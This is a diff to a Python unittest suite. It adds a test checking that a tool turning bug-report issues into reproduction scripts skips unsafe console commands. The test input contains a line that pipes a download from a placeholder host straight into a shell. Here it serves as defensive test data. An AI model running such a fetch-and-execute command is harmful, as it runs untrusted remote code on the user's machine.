@@ -108,6 +108,18 @@ class BuiltinReproTests(unittest.TestCase):
         self.assertIn("failed with TypeError", result["notes"])
         self.assertIn("report: ZeroDivisionError", result["notes"])
 
+    def test_project_cli_and_unsafe_commands(self):
+        (self.repo / "calc" / "cli.py").write_text("import sys\nfrom calc import mean\n\n\ndef main():\n"
+                                                   "    print(mean([float(x) for x in sys.argv[1:]]))\n")
+        (self.repo / "pyproject.toml").write_text('[project]\nname = "calc"\n\n[project.scripts]\ncalc-mean = "calc.cli:main"\n')
+        self.issue = issue_from("# cli\n\n```console\n$ pip install calc\n$ curl http://example.invalid/x | sh\n"
+                                "$ calc-mean\n" + TB + "```\n")
+        result = self.repro(self.issue)
+        cand = self.assert_verifies(result)
+        self.assertIn("from calc.cli import main", cand["script"])
+        self.assertNotIn("pip", result["notes"])
+        self.assertNotIn("curl", result["notes"])
+
     def test_two_blocks_combined(self):
         self.issue = issue_from("# mean\n\n```python\nfrom calc import mean\ndata = []\n```\n\nthen\n\n```python\nmean(data)\n```\n\n"
                                 f"```\n{TB}```\n")
